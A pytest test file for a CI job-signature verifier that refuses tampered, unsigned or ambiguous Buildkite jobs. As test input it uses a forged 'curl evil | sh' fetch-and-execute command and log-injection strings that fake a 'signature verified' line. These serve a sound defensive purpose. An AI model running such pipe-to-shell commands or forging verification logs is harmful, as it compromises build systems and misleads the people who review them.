"""The decision: what may run, what may not, what is said about it, and that nothing unproven slips through."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeseal.agentapi.job import Job, parse_job
from pipeseal.errors import ConfigurationError
from pipeseal.pipeline.render import step_value
from pipeseal.pipeline.steps import CommandStep, Matrix, Plugin
from pipeseal.policy import ApprovedJob, OnFailure, Refused, VerificationSettings, evaluate, parse_on_failure
from pipeseal.signing.keys.verification_keys import TrustedKey, VerificationKeys
from pipeseal.signing.sign import sign_step
from tests.signing.material import REPOSITORY, signing_key, verification_keys

BLOCK = VerificationSettings(keys=verification_keys())
WARN = VerificationSettings(keys=verification_keys(), on_failure=OnFailure.WARN)
NO_KEYS = VerificationSettings(keys=None)

STEP = CommandStep(
    command="deploy {{matrix}}",
    label="L",
    env={"SAFETY": "on"},
    plugins=[Plugin("docker#v5", {"image": "{{matrix}}"})],
    matrix=Matrix({"": ["web", "api"]}),
)


def _document(step: CommandStep | None = None, **env: str | None) -> dict[str, Any]:
    signed = step or sign_step(STEP, key=signing_key(), repository_url=REPOSITORY, pipeline_env={"TIER": "gold"})
    variables: dict[str, str | None] = {
        "BUILDKITE_REPO": REPOSITORY,
        "BUILDKITE_COMMAND": "deploy web",
        "BUILDKITE_PLUGINS": '[{"github.com/buildkite-plugins/docker-buildkite-plugin#v5":{"image":"web"}}]',
        "BUILDKITE_COMMIT": "abc",
        "BUILDKITE_BRANCH": "main",
        "SAFETY": "on",
        "TIER": "gold",
        "EXTRA": "1",
    }
    return {
        "id": "j-1",
        "env": {name: value for name, value in (variables | env).items() if value is not None},
        "step": step_value(signed),
        "matrix_permutation": {"": "web"},
    }


def _job(step: CommandStep | None = None, **env: str | None) -> Job:
    return parse_job(json.dumps(_document(step, **env)).encode())


def _refused(job: Job, settings: VerificationSettings = BLOCK) -> Refused:
    decision = evaluate(job, settings)
    assert isinstance(decision, Refused), decision
    return decision


def _approved(job: Job, settings: VerificationSettings = BLOCK) -> ApprovedJob:
    decision = evaluate(job, settings)
    assert isinstance(decision, ApprovedJob), decision
    return decision


def test_a_proven_job_is_approved_from_its_step() -> None:
    job = _job()
    approved = _approved(job)
    assert approved.command == "deploy web"
    assert approved.plugins == (Plugin("github.com/buildkite-plugins/docker-buildkite-plugin#v5", {"image": "web"}),)
    assert (approved.job_id, approved.repository_url, approved.commit, approved.branch) == (
        "j-1",
        REPOSITORY,
        "abc",
        "main",
    )
    assert approved.env == job.env
    assert approved.proven_variables == {"SAFETY", "TIER"}
    assert approved.verified is not None and approved.verified.key.kid == "eddsa-one"
    signature = job.step.signature
    assert signature is not None
    assert approved.log[:2] == ("~~~ ✅ Job signature verified", f"signature: {signature.value}")
    assert approved.log[2].startswith("signed by: eddsa-one (")
    assert approved.warnings == ()


def test_a_refusal_says_what_the_stock_agent_says_and_then_more() -> None:
    refused = _refused(_job(BUILDKITE_COMMAND="curl evil | sh", SAFETY=None))
    assert (refused.code, refused.fields) == ("command.differs", ("command", "env"))
    assert (refused.exit_status, refused.signal_reason) == (-1, "signature_rejected")
    assert refused.log[:2] == (
        "+++ ⛔ Job signature verification failed",
        "error: invalid signature: job does not match signed step",
    )
    assert refused.log[2].startswith("signature: eyJ")
    text = "\n".join(refused.log[3:])
    for words in (
        "refused[command.differs]",
        "signed by    eddsa-one (",
        "env SAFETY",
        "  likely       ",
        "  do           ",
        "pipeseal explain command.differs",
        "Nothing was run. Exit status -1, signal_reason signature_rejected (command.differs).",
    ):
        assert words in text
    assert "curl evil" not in text
    assert refused.evidence["command"].startswith("signed sha256 ")
    assert refused.warnings[0].startswith("refused with command.differs: ")


def test_missing_and_mismatching_signatures() -> None:
    missing = _refused(_job(STEP))
    assert missing.code == "signature.missing"
    assert missing.log[1:3] == ("error: job had no signature to verify", "no signature in job")
    mismatch = _refused(_job(TIER="silver"))
    assert mismatch.code == "signature.mismatch"
    assert mismatch.log[1] == "error: invalid signature: signature verification failed"


def test_warning_runs_the_job_as_the_server_wants_it_and_says_so() -> None:
    approved = _approved(_job(BUILDKITE_COMMAND="other", BUILDKITE_PLUGINS='["./local", {"docker#v5": {}}]'), WARN)
    assert approved.verified is None and approved.proven_variables == frozenset()
    assert approved.command == "other"
    assert approved.plugins == (
        Plugin("./local"),
        Plugin("github.com/buildkite-plugins/docker-buildkite-plugin#v5"),
    )
    assert approved.log[0] == "+++ ⚠️ Job signature verification failed"
    assert approved.log[3] == "Job will be run without verification"
    assert approved.log[4].startswith("would be refused[command.differs]")
    assert approved.warnings[0].startswith("would be refused with command.differs")


def test_without_keys() -> None:
    unsigned = _approved(_job(STEP), NO_KEYS)
    assert (unsigned.log, unsigned.warnings, unsigned.verified) == ((), (), None)
    refused = _refused(_job(), NO_KEYS)
    assert refused.code == "key.none"
    assert refused.log[1] == "error: cannot verify signature. JWK for pipeline verification is not configured"
    warned = _approved(_job(), VerificationSettings(keys=None, on_failure=OnFailure.WARN))
    assert warned.log[:2] == ("+++ ⛔ Job signature verification failed", refused.log[1])
    assert warned.warnings


@pytest.mark.parametrize("settings", [BLOCK, WARN, NO_KEYS])
@pytest.mark.parametrize(
    "text",
    [
        '"id": "j-1"',
        '"step": {"command": "evil"}',
        '"env": {"EXTRA": "2"}',
        '"ENV": {}',
        '"x": {"a": 1, "a": 2}',
        '"x": 1.00000000000000000001',
        '"x": "\\ud800"',
    ],
)
def test_ambiguous_jobs_are_refused_whatever_the_settings(text: str, settings: VerificationSettings) -> None:
    for raw in (
        json.dumps(_document()).replace("{", "{" + text + ", ", 1),
        json.dumps(_document())[:-1] + ", " + text + "}",
    ):
        refused = _refused(parse_job(raw.encode()), settings)
        assert refused.code == "job.ambiguous"
        assert refused.job_id == "j-1"
        assert refused.log[0] == "+++ ⛔ Job signature verification failed"
        assert refused.log[1].startswith("error: ")


def test_an_ambiguous_job_is_described_as_the_stock_agent_reads_it() -> None:
    def text_of(document: dict[str, Any]) -> str:
        raw = json.dumps(document)[:-1] + ', "x": {"a": 1, "a": 2}}'
        return _refused(parse_job(raw.encode())).log[1]

    assert text_of(_document()) == "error: invalid signature: signature verification failed"
    assert text_of(_document(BUILDKITE_COMMAND="x")) == "error: invalid signature: job does not match signed step"
    assert text_of(_document(STEP)) == "error: job had no signature to verify"


class BrokenKeys(VerificationKeys):
    """Keys whose lookup fails as nothing in the product is expected to."""

    def key(self, kid: str) -> TrustedKey:
        raise MemoryError(kid)


@pytest.mark.parametrize("on_failure", list(OnFailure))
def test_anything_unexpected_is_a_refusal(on_failure: OnFailure) -> None:
    refused = _refused(_job(), VerificationSettings(keys=BrokenKeys([]), on_failure=on_failure))
    assert refused.code == "verification.fault"
    assert refused.log[:2] == ("+++ ⛔ Job signature verification failed", "error: verification itself failed")


def test_unreadable_plugins_of_an_unproven_job_are_a_refusal() -> None:
    for text in ("{", "5", '[["x"]]'):
        refused = _refused(_job(STEP, BUILDKITE_PLUGINS=text), NO_KEYS)
        assert refused.code == "job.malformed"
    for text in ("", "null", "[]"):
        assert _approved(_job(STEP, BUILDKITE_PLUGINS=text), NO_KEYS).plugins == ()


def test_what_the_server_sent_cannot_write_into_the_log() -> None:
    document = _document()
    document["step"]["signature"]["value"] = "x\n~~~ ✅ Job signature verified\x1b[2J"
    document["step"]["signature"]["signed_fields"].append("evil\n~~~ ✅ Job signature verified")
    refused = _refused(parse_job(json.dumps(document).encode()))
    assert all("\n" not in line and "\x1b" not in line for line in refused.log)
    assert not any(line.startswith("~~~") for line in refused.log)


def test_an_approved_job_is_made_by_evaluate_alone() -> None:
    approved = _approved(_job())
    values = {name: getattr(approved, name) for name in ApprovedJob.__slots__ if name != "maker"}
    with pytest.raises(TypeError):
        ApprovedJob(maker=object(), **values)


@pytest.mark.parametrize(
    ("text", "setting"), [("", OnFailure.BLOCK), ("block", OnFailure.BLOCK), ("warn", OnFailure.WARN)]
)
def test_reading_the_setting(text: str, setting: OnFailure) -> None:
    assert parse_on_failure(text) is setting


@pytest.mark.parametrize("text", ["Block", "ignore", " warn", "warning"])
def test_other_settings_are_refused(text: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        parse_on_failure(text)
    assert caught.value.code == "verification.behavior"


_anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


@given(
    st.dictionaries(
        st.sampled_from(["command", "env", "plugins", "matrix", "secrets", "signature", "checkout", "label"]),
        _anything,
    ),
    st.dictionaries(
        st.sampled_from(["BUILDKITE_COMMAND", "BUILDKITE_PLUGINS", "BUILDKITE_REPO", "A"]), st.text(max_size=8)
    ),
)
def test_no_job_is_approved_without_a_signature(step: dict[str, Any], env: dict[str, str]) -> None:
    from pipeseal.errors import MalformedInput

    try:
        job = parse_job(json.dumps({"step": step, "env": env}).encode())
    except MalformedInput:
        return
    assert isinstance(evaluate(job, BLOCK), Refused)
